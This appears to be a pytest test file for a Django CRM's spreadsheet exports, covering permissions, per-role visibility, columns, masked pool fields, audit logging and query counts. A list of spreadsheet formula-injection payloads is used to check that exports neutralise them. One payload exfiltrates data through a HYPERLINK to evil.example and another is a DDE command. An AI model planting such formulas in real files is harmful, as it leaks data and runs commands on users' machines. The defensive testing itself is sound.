"""Exports of the four lists (customers, contacts, follow-ups, the pool) through HTTP: the
permission, visibility (a rep's rows, a manager's team, participated rows, other tenants'
ids), selected versus filtered rows, the file equal to the list, the columns (translated
headers, labels, names, tags, local times), formula neutralisation, the pool's hidden
fields, the activity-log entry, and a fixed number of queries whatever the row count.

The machinery (large exports by a worker, 我的导出, downloads, purge) is tested in
tests/crm/test_exports.py. The client chooses English so that headers and messages are
asserted as written in the code, except where the Chinese headers are the point.
"""

from __future__ import annotations

import datetime
import io
from types import SimpleNamespace

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django_scopes import scopes_disabled

from crm.models import DataScope, ExportJob, OptionKind
from crm.xlsx import XLSX_CONTENT_TYPE
from tests.conftest import PASSWORD
from tests.customers.factories import (
    logs,
    make_contact,
    make_customer,
    make_followup,
    make_participant,
    make_tag,
    option,
    tag_customer,
)
from tests.factories import make_role
from tests.pools.factories import make_group, pooled

URLS = {
    "customers": "customers:customer-export",
    "contacts": "customers:contact-export",
    "followups": "customers:followup-export",
    "pool": "customers:pool-export",
}
CUSTOMER_HEADERS = (
    "Customer name",
    "Lifecycle",
    "Deal status",
    "Owner",
    "Customer status",
    "Level",
    "Source",
    "Industry",
    "Tags",
    "Legal representative / operator",
    "Unified social credit code",
    "Bank",
    "Bank account",
    "Products",
    "Raw materials",
    "Province",
    "City",
    "District",
    "Address",
    "Referrer",
    "Visibility",
    "Locked",
    "Last follow-up",
    "Next follow-up",
    "Remark",
    "Created by",
    "Created at",
)


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


class FreshMessagesClient(Client):
    """Each response's messages are only the ones it added (redirects are not followed)."""

    def request(self, **request):
        from django.contrib.messages.storage.session import SessionStorage

        session = self.session
        if session.pop(SessionStorage.session_key, None) is not None:
            session.save()
        return super().request(**request)


@pytest.fixture
def as_user(settings):
    def do(user, language: str = "en") -> Client:
        client = FreshMessagesClient()
        assert client.login(username=user.username, password=PASSWORD)
        if language:
            client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
        return client

    return do


def messages_of(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def rows_of(response) -> list[tuple]:
    """The first sheet of an xlsx response, header first."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith("attachment; filename")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [tuple(row) for row in book.active.iter_rows(values_only=True)]


def names_of(response) -> list[str]:
    return [row[0] for row in rows_of(response)[1:]]


def grant_export(*users):
    """Give each user a role of the same data scope that also holds ``customer.export``."""
    with scopes_disabled():
        for user in users:
            role = user.role
            user.role = make_role(
                user.tenant,
                f"{role.name}+导出-{user.username}",
                role.data_scope,
                [*role.permissions, "customer.export"],
            )
            user.save(update_fields=["role"])


def jobs(**lookup) -> list[ExportJob]:
    with scopes_disabled():
        return list(ExportJob.objects.filter(**lookup).order_by("pk"))


@pytest.fixture
def d(world):
    """Customers of tenant A named after who owns them (rep_east may export):

    * ``east``: rep_east's, with level, status, two tags, a contact and a follow-up;
    * ``east2``: rep_east2's; ``west``: rep_west's private one; ``west_public``: public;
    * ``west_shared``: rep_west's private one with rep_east as a participant;
    * ``service``: service_a's (outside the sales department); ``b``: tenant B's.
    """
    w = world
    grant_export(w.rep_east)
    level = option(w.tenant_a, OptionKind.CUSTOMER_LEVEL)
    status = option(w.tenant_a, OptionKind.CUSTOMER_STATUS)
    east = make_customer(
        w.tenant_a, w.rep_east, "华东私有客户", level=level, status=status, city="杭州"
    )
    tag_customer(east, make_tag(w.tenant_a, "重点"), make_tag(w.tenant_a, "老客户"))
    west_shared = make_customer(w.tenant_a, w.rep_west, "华西共享客户")
    make_participant(west_shared, w.rep_east)
    east2 = make_customer(w.tenant_a, w.rep_east2, "华东同事客户")
    west = make_customer(w.tenant_a, w.rep_west, "华西私有客户")
    west_public = make_customer(w.tenant_a, w.rep_west, "华西公开客户", visibility="public")
    service = make_customer(w.tenant_a, w.service_a, "售后客户")
    b = make_customer(w.tenant_b, w.rep_b, "乙公司客户")
    east_contact = make_contact(east, "东联系人", mobile="13900000001", is_decision_maker=True)
    west_contact = make_contact(west, "西联系人", mobile="13911112222")
    kind = option(w.tenant_a, OptionKind.FOLLOWUP_TYPE)
    return SimpleNamespace(
        w=w,
        level=level,
        status=status,
        east=east,
        east2=east2,
        west=west,
        west_public=west_public,
        west_shared=west_shared,
        service=service,
        b=b,
        east_contact=east_contact,
        west_contact=west_contact,
        b_contact=make_contact(b, "乙联系人"),
        east_followup=make_followup(east, w.rep_east, "华东电话沟通", kind=kind),
        west_followup=make_followup(west, w.rep_west, "华西上门拜访", kind=kind),
        shared_followup=make_followup(west_shared, w.rep_west, "共享客户的跟进"),
        b_followup=make_followup(b, w.rep_b, "乙的跟进"),
    )


# ---------------------------------------------------------------- permission


def test_every_export_needs_the_export_permission(d, as_user):
    rep = as_user(d.w.rep_east2)  # a plain sales rep: no customer.export
    for kind, name in URLS.items():
        url = reverse(name)
        assert rep.post(url).status_code == 403, kind
        assert rep.post(url, {"ids": [d.east2.pk]}).status_code == 403, kind
    assert jobs() == []
    # 我的导出 opens for whoever may export any kind (a rep exports opportunities); a role
    # without any export right is refused.
    assert rep.get(reverse("crm:export-list")).status_code == 200
    _without_exports(d.w.rep_east2)
    assert as_user(d.w.rep_east2).get(reverse("crm:export-list")).status_code == 403


def _without_exports(user) -> None:
    from crm import exporting
    from crm.models import DataScope
    from tests.factories import make_role

    with scopes_disabled():
        codes = [c for c in user.role.permissions if c not in exporting.permissions()]
        user.role = make_role(user.tenant, "不导出", DataScope.OWN, codes)
        user.save(update_fields=["role"])


def test_export_buttons_are_shown_only_with_the_permission(d, as_user, world):
    pages = [
        reverse("customers:customer-list"),
        reverse("customers:contact-list"),
        reverse("customers:followup-feed"),
    ]
    make_group(world.tenant_a, "全员公海", open_to_all=True)
    pages.append(reverse("customers:pool-list"))
    plain, exporter = as_user(d.w.rep_east2), as_user(d.w.rep_east)
    for url in pages:
        assert "data-export=" not in plain.get(url).content.decode(), url
        page = exporter.get(url).content.decode()
        assert 'data-export="list"' in page, url
        assert 'data-export="selected"' in page, url
    assert "my-exports" in exporter.get(pages[0]).content.decode()
    _without_exports(d.w.rep_east2)
    assert "my-exports" not in as_user(d.w.rep_east2).get(pages[0]).content.decode()


# ---------------------------------------------------------------- visibility


def test_rep_exports_only_the_customers_they_see(d, as_user):
    rep = as_user(d.w.rep_east)
    url = reverse(URLS["customers"])
    assert names_of(rep.post(url)) == ["华东私有客户"]  # the list's default view: mine
    assert sorted(names_of(rep.post(url, query_params={"view": "all"}))) == sorted(
        ["华东私有客户", "华西共享客户", "华西公开客户"]
    )
    assert names_of(rep.post(url, query_params={"view": "participated"})) == ["华西共享客户"]
    assert names_of(rep.post(url, query_params={"view": "team"})) == []


def test_manager_exports_their_team(d, as_user):
    manager = as_user(d.w.manager_sales)
    url = reverse(URLS["customers"])
    team = {"华东私有客户", "华东同事客户", "华西私有客户", "华西公开客户", "华西共享客户"}
    assert set(names_of(manager.post(url, query_params={"view": "team"}))) == team
    assert set(names_of(manager.post(url, query_params={"view": "all"}))) == team  # not 售后客户
    admin = as_user(d.w.admin_a)
    assert set(names_of(admin.post(url, query_params={"view": "all"}))) == {*team, "售后客户"}


def test_contacts_and_followups_follow_the_customers_visibility(d, as_user):
    rep = as_user(d.w.rep_east)
    contacts = rows_of(rep.post(reverse(URLS["contacts"])))
    assert [(r[0], r[1]) for r in contacts[1:]] == [("华东私有客户", "东联系人")]
    feed = rows_of(rep.post(reverse(URLS["followups"]), query_params={"scope": "team"}))
    assert [r[3] for r in feed[1:]] == ["华东电话沟通"]
    manager = as_user(d.w.manager_sales)
    team = rows_of(manager.post(reverse(URLS["followups"]), query_params={"scope": "team"}))
    assert sorted(r[3] for r in team[1:]) == sorted(
        ["华东电话沟通", "华西上门拜访", "共享客户的跟进"]
    )
    mine = rows_of(manager.post(reverse(URLS["followups"]), query_params={"scope": "mine"}))
    assert mine[1:] == []
    contacts = rows_of(manager.post(reverse(URLS["contacts"])))
    assert sorted(r[1] for r in contacts[1:]) == ["东联系人", "西联系人"]


@pytest.mark.parametrize(
    ("kind", "visible", "invisible"),
    [
        ("customers", "east", "west"),
        ("customers", "east", "b"),
        ("contacts", "east_contact", "west_contact"),
        ("contacts", "east_contact", "b_contact"),
        ("followups", "east_followup", "west_followup"),
        ("followups", "east_followup", "b_followup"),
    ],
)
def test_selected_ids_with_one_not_visible_are_refused_as_a_whole(
    d, as_user, kind, visible, invisible
):
    rep = as_user(d.w.rep_east)
    url = reverse(URLS[kind])
    back = "/customers/?view=all"
    ids = [getattr(d, visible).pk, getattr(d, invisible).pk]
    response = rep.post(f"{url}?view=all", {"ids": ids, "next": back})
    assert response.status_code == 302
    assert response["Location"] == back
    assert messages_of(response) == [
        "1 selected row does not exist or is not visible to you; nothing was exported."
    ]
    # A missing id and a foreign word are refused the same way.
    for wrong in (999_999_999, "abc"):
        response = rep.post(url, {"ids": [getattr(d, visible).pk, wrong]})
        assert messages_of(response) == [
            "1 selected row does not exist or is not visible to you; nothing was exported."
        ]
    assert jobs() == []


def test_export_selected_without_rows_is_refused_with_a_message(d, as_user):
    # The 导出所选 button sends rows=selected: with nothing ticked it is refused, it never
    # falls back to the whole list.
    response = as_user(d.w.rep_east).post(
        reverse(URLS["customers"]) + "?view=all", {"rows": "selected"}
    )
    assert response.status_code == 302
    assert response["Location"] == "/customers/?view=all"
    assert messages_of(response) == ["Select at least one row."]


def test_export_selected_refuses_more_ids_than_a_selection_holds(d, as_user, monkeypatch):
    # Django refuses more than 1,000 fields anyway (DATA_UPLOAD_MAX_NUMBER_FIELDS); the
    # service has its own bound for callers that are not a form.
    from crm import exporting

    monkeypatch.setattr(exporting, "MAX_SELECTED", 2)
    ids = [d.east.pk, d.west_public.pk, d.west_shared.pk]
    response = as_user(d.w.rep_east).post(reverse(URLS["customers"]), {"ids": ids})
    assert messages_of(response) == ["Select at most 2 rows, or export the whole list."]
    assert jobs() == []


def test_an_unknown_list_view_is_refused_by_the_export(d, as_user):
    rep = as_user(d.w.rep_east)
    # The list shows its default view (issue 16); the export refuses an unknown one.
    assert rep.get(reverse("customers:customer-list"), {"view": "nope"}).status_code == 200
    assert rep.post(reverse(URLS["customers"]), query_params={"view": "nope"}).status_code == 404
    assert jobs() == []


# ---------------------------------------------------------------- selected and filtered


def test_selected_rows_are_exported_in_the_lists_order(d, as_user):
    rep = as_user(d.w.manager_sales)
    ids = [d.west.pk, d.east.pk, d.west_public.pk]
    response = rep.post(reverse(URLS["customers"]) + "?view=all&sort=name", {"ids": ids})
    expected = sorted(["华西私有客户", "华东私有客户", "华西公开客户"])
    assert names_of(response) == expected
    [job] = jobs()
    assert job.params["ids"] == sorted(ids)
    assert job.params["query"] == "view=all&sort=name"
    # The filtered list of the same view holds more.
    assert len(names_of(rep.post(reverse(URLS["customers"]), query_params={"view": "all"}))) == 5


def test_filtered_export_uses_the_lists_filters(d, as_user):
    rep = as_user(d.w.manager_sales)
    url = reverse(URLS["customers"])
    assert names_of(rep.post(url, query_params={"view": "all", "q": "华东"})) == [
        "华东同事客户",
        "华东私有客户",
    ]
    assert names_of(rep.post(url, query_params={"view": "all", "q": "1391111"})) == ["华西私有客户"]
    assert names_of(rep.post(url, query_params={"view": "all", "level": d.level.pk})) == [
        "华东私有客户"
    ]
    contacts = rows_of(
        rep.post(reverse(URLS["contacts"]), query_params={"is_decision_maker": "true"})
    )
    assert [r[1] for r in contacts[1:]] == ["东联系人"]
    feed = rows_of(
        rep.post(
            reverse(URLS["followups"]), query_params={"scope": "team", "person": d.w.rep_west.pk}
        )
    )
    assert sorted(r[3] for r in feed[1:]) == sorted(["华西上门拜访", "共享客户的跟进"])


def _list_names(client, url_name, params) -> list[str]:
    response = client.get(reverse(url_name), params)
    assert response.status_code == 200
    items = response.context["page"]
    if url_name == "customers:followup-feed":
        return [f.content for f in items]
    return [c.name for c in items]


@pytest.mark.parametrize(
    ("list_name", "kind", "params"),
    [
        ("customers:customer-list", "customers", {}),
        ("customers:customer-list", "customers", {"view": "all"}),
        ("customers:customer-list", "customers", {"view": "team", "sort": "name"}),
        ("customers:customer-list", "customers", {"view": "all", "sort": "level"}),
        ("customers:customer-list", "customers", {"view": "all", "q": "华西"}),
        ("customers:customer-list", "customers", {"view": "stale"}),
        ("customers:customer-list", "customers", {"view": "all", "tag": "重点"}),
        ("customers:contact-list", "contacts", {}),
        ("customers:contact-list", "contacts", {"q": "西"}),
        ("customers:followup-feed", "followups", {"scope": "team"}),
        ("customers:followup-feed", "followups", {"scope": "team", "kind": "kind"}),
    ],
)
def test_the_export_holds_what_the_list_shows(d, as_user, list_name, kind, params):
    with scopes_disabled():
        if params.get("tag"):
            params = {**params, "tag": d.east.tags.get(name=params["tag"]).pk}
        if params.get("kind") == "kind":
            params = {**params, "kind": d.east_followup.kind_id}
        # Old enough for 7 days without a follow-up.
        type(d.east).objects.filter(pk=d.west.pk).update(
            created_at=timezone.now() - datetime.timedelta(days=10)
        )
    make_customer(d.w.tenant_a, d.w.manager_sales, "经理的客户")  # 我负责的 is not empty
    client = as_user(d.w.manager_sales)
    shown = _list_names(client, list_name, params)
    exported = rows_of(client.post(reverse(URLS[kind]), query_params=params))[1:]
    column = {"customers": 0, "contacts": 1, "followups": 3}[kind]
    assert [r[column] for r in exported] == shown
    assert shown  # the comparison is not vacuous


# ---------------------------------------------------------------- columns


def test_customer_columns_have_headers_labels_names_tags_and_local_times(d, as_user, world):
    with scopes_disabled():
        type(d.east).objects.filter(pk=d.east.pk).update(
            next_followup_at=timezone.now() + datetime.timedelta(days=1), is_locked=True
        )
        d.east.refresh_from_db()
    header, row = rows_of(as_user(world.rep_east).post(reverse(URLS["customers"])))
    assert header == CUSTOMER_HEADERS
    values = dict(zip(header, row, strict=True))
    assert values["Customer name"] == "华东私有客户"
    assert values["Lifecycle"] == "Development customer"
    assert values["Deal status"] == "No deal yet"
    assert values["Owner"] == "rep_east"
    assert values["Created by"] == "rep_east"
    assert values["Level"] == d.level.label
    assert values["Customer status"] == d.status.label
    assert values["Tags"] == "老客户、重点"
    assert values["Locked"] == "Yes"
    assert values["City"] == "杭州"
    local = timezone.localtime(d.east.next_followup_at).replace(tzinfo=None)
    assert abs(values["Next follow-up"] - local) < datetime.timedelta(seconds=1)
    created = timezone.localtime(d.east.created_at).replace(tzinfo=None)
    assert abs(values["Created at"] - created) < datetime.timedelta(seconds=1)


def test_headers_are_translated_for_a_chinese_user(d, as_user):
    client = as_user(d.w.rep_east, language="")  # zh-hans, the default
    header = rows_of(client.post(reverse(URLS["customers"])))[0]
    assert header[:4] == ("客户名称", "客户阶段", "成交状态", "负责人")
    response = client.post(reverse(URLS["customers"]))
    assert "filename*=utf-8''" in response["Content-Disposition"]  # 客户-….xlsx


def test_contact_and_followup_columns(d, as_user):
    client = as_user(d.w.rep_east)
    header, row = rows_of(client.post(reverse(URLS["contacts"])))
    values = dict(zip(header, row, strict=True))
    assert header[:3] == ("Customer", "Name", "Mobile")
    assert values["Mobile"] == "13900000001"
    assert values["Decision maker"] == "Yes"
    assert values["Gender"] == "Not given"
    header, row = rows_of(client.post(reverse(URLS["followups"])))
    values = dict(zip(header, row, strict=True))
    assert values["Follow-up type"] == d.east_followup.kind.label
    assert values["By"] == "rep_east"
    local = timezone.localtime(d.east_followup.followed_at).replace(tzinfo=None)
    assert abs(values["Time"] - local) < datetime.timedelta(seconds=1)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+8613800138000",
    "@SUM(1+1)",
    "-2+3",
    "=cmd|' /C calc'!A0",
]


def test_formulas_come_out_as_text_with_a_leading_apostrophe(d, as_user):
    w = d.w
    for i, text in enumerate(FORMULAS):
        customer = make_customer(w.tenant_a, w.rep_east, text, address=text, remark=f"备注{i}")
        make_contact(customer, text, mobile="13900000099")
        make_followup(customer, w.rep_east, text)
    client = as_user(w.rep_east)
    response = client.post(reverse(URLS["customers"]), query_params={"sort": "name"})
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    by_name = {row[0].value: row for row in book.active.iter_rows(min_row=2)}
    for text in FORMULAS:
        row = by_name["'" + text]
        assert row[0].data_type == "s"  # a string, never a formula
        assert row[CUSTOMER_HEADERS.index("Address")].value == "'" + text
    contacts = rows_of(client.post(reverse(URLS["contacts"])))
    assert {r[0] for r in contacts[1:]} >= {"'" + t for t in FORMULAS}
    assert {r[1] for r in contacts[1:]} >= {"'" + t for t in FORMULAS}
    feed = rows_of(client.post(reverse(URLS["followups"])))
    assert {r[3] for r in feed[1:]} >= {"'" + t for t in FORMULAS}


# ---------------------------------------------------------------- the pool


@pytest.fixture
def pool(world):
    """A group of the east department hiding phones, address and remark (rep_east2 is its
    admin), and an open group hiding nothing; each with one pooled customer."""
    w = world
    grant_export(w.rep_east, w.rep_east2, w.rep_west)
    strict = make_group(
        w.tenant_a,
        "华东公海",
        departments=[w.east],
        admins=[w.rep_east2],
        hidden_fields=["contact_phones", "address", "remark"],
    )
    open_group = make_group(w.tenant_a, "开放公海", open_to_all=True, hidden_fields=[])
    hidden = pooled(strict, "池中客户甲", address="杭州市西湖路1号", remark="老板姓王")
    make_contact(hidden, "张三", mobile="13912345678", phone="0571-888", email="z@example.com")
    shown = pooled(open_group, "池中客户乙", address="成都市春熙路2号", remark="可以联系")
    make_contact(shown, "李四", mobile="13987654321")
    b_group = make_group(w.tenant_b, "乙公海", open_to_all=True)
    return SimpleNamespace(
        strict=strict, open=open_group, hidden=hidden, shown=shown, b=pooled(b_group, "乙池中")
    )


def _pool_rows(response) -> dict[str, dict]:
    header, *rows = rows_of(response)
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def test_pool_export_keeps_the_groups_hidden_fields_hidden(world, as_user, pool):
    member = as_user(world.rep_east)
    rows = _pool_rows(member.post(reverse(URLS["pool"])))
    assert set(rows) == {"池中客户甲", "池中客户乙"}
    hidden = rows["池中客户甲"]
    assert hidden["Contact"] == "张三"
    assert hidden["Mobile"] == "***"
    assert hidden["Telephone"] == "***"
    assert hidden["Address"] == "***"
    assert hidden["Remark"] == "***"
    assert hidden["Email"] == "z@example.com"  # this group does not hide e-mails
    assert hidden["Pool group"] == "华东公海"
    shown = rows["池中客户乙"]
    assert shown["Mobile"] == "13987654321"
    assert shown["Address"] == "成都市春熙路2号"
    # Selected rows are masked the same way.
    selected = _pool_rows(member.post(reverse(URLS["pool"]), {"ids": [pool.hidden.pk]}))
    assert selected["池中客户甲"]["Mobile"] == "***"
    assert "13912345678" not in str(selected)
    # The group's admin sees what its pages show them.
    admin = _pool_rows(as_user(world.rep_east2).post(reverse(URLS["pool"])))
    assert admin["池中客户甲"]["Mobile"] == "13912345678"
    assert admin["池中客户甲"]["Address"] == "杭州市西湖路1号"


def test_pool_export_follows_the_group_and_membership(world, as_user, pool):
    member = as_user(world.rep_east)
    one = _pool_rows(member.post(reverse(URLS["pool"]), query_params={"group": pool.open.pk}))
    assert set(one) == {"池中客户乙"}
    # rep_west is not in the east group: its customer is neither listed nor selectable.
    west = as_user(world.rep_west)
    assert set(_pool_rows(west.post(reverse(URLS["pool"])))) == {"池中客户乙"}
    for pk in (pool.hidden.pk, pool.b.pk):
        response = west.post(reverse(URLS["pool"]), {"ids": [pool.shown.pk, pk]})
        assert response.status_code == 302
        assert messages_of(response) == [
            "1 selected row does not exist or is not visible to you; nothing was exported."
        ]


def test_pool_export_holds_what_the_pool_list_shows(world, as_user, pool):
    client = as_user(world.rep_east)
    for params in ({}, {"sort": "name"}, {"group": pool.strict.pk}, {"q": "乙"}):
        shown = _list_names(client, "customers:pool-list", params)
        assert names_of(client.post(reverse(URLS["pool"]), query_params=params)) == shown, params


# ---------------------------------------------------------------- activity log


def test_each_export_writes_one_activity_log_entry_on_its_job(d, as_user):
    client = as_user(d.w.rep_east)
    client.post(reverse(URLS["customers"]), query_params={"view": "all"})
    client.post(reverse(URLS["contacts"]), {"ids": [d.east_contact.pk]})
    first, second = jobs()
    assert (first.kind, first.status, first.row_count) == ("customers", "done", 3)
    assert (second.kind, second.status, second.row_count) == ("contacts", "done", 1)
    assert first.created_by_id == d.w.rep_east.pk
    assert not first.file  # built in the request, not kept
    [entry] = logs(first)
    assert entry.action == "export.created"
    assert entry.actor_id == d.w.rep_east.pk
    assert entry.changes == {
        "kind": ["", "customers"],
        "row_count": ["", 3],
        "query": ["", "view=all"],
    }
    assert entry.note == "Customers: 3 rows"
    [entry] = logs(second)
    assert entry.changes["selected"] == ["", 1]
    assert entry.note == "Contacts: 1 row"


# ---------------------------------------------------------------- queries


def _more_rows(w, n: int, start: int, pool_group) -> None:
    """n customers of each kind, with everything their columns show."""
    tag = make_tag(w.tenant_a, f"标签{start}")
    level = option(w.tenant_a, OptionKind.CUSTOMER_LEVEL)
    kind = option(w.tenant_a, OptionKind.FOLLOWUP_TYPE)
    owners = [w.rep_east, w.rep_east2, w.rep_west]
    for i in range(start, start + n):
        customer = make_customer(
            w.tenant_a, owners[i % 3], f"客户{i:03d}", level=level, referrer=w.admin_a
        )
        tag_customer(customer, tag)
        contact = make_contact(customer, f"联系人{i:03d}", mobile=f"139{i:08d}")
        make_followup(customer, owners[i % 3], f"跟进{i:03d}", kind=kind, contact=contact)
        in_pool = pooled(pool_group, f"池中{i:03d}", level=level)
        tag_customer(in_pool, tag)
        make_contact(in_pool, f"池联系人{i:03d}", mobile=f"138{i:08d}")


def _queries(client, url, params) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.post(url, query_params=params)
    assert response.status_code == 200
    return len(ctx.captured_queries)


@pytest.mark.parametrize(
    ("kind", "params"),
    [
        ("customers", {"view": "all"}),
        ("customers", {"view": "team", "sort": "level"}),
        ("contacts", {}),
        ("followups", {"scope": "team"}),
        ("pool", {}),
    ],
)
def test_an_export_runs_a_fixed_number_of_queries(world, kind, params):
    w = world
    grant_export(w.manager_sales)
    group = make_group(w.tenant_a, "全员公海", open_to_all=True)
    client = Client()
    client.force_login(w.manager_sales)
    url = reverse(URLS[kind])
    _more_rows(w, 5, 0, group)
    client.post(url, query_params=params)  # warm caches (content types, permissions)
    few = _queries(client, url, params)
    _more_rows(w, 45, 5, group)
    many = _queries(client, url, params)
    assert few == many, f"{kind}: {few} queries with 5 rows, {many} with 50"
    assert jobs(kind=kind)[-1].row_count == 50


def test_data_scope_own_role_sees_no_team_rows(world, as_user, d):
    """A rep's role with scope ``own`` and the export right: the team view is empty."""
    role = make_role(world.tenant_a, "只看自己", DataScope.OWN, ["customer.export"])
    with scopes_disabled():
        world.rep_west.role = role
        world.rep_west.save(update_fields=["role"])
    names = names_of(
        as_user(world.rep_west).post(reverse(URLS["customers"]), query_params={"view": "team"})
    )
    assert names == []
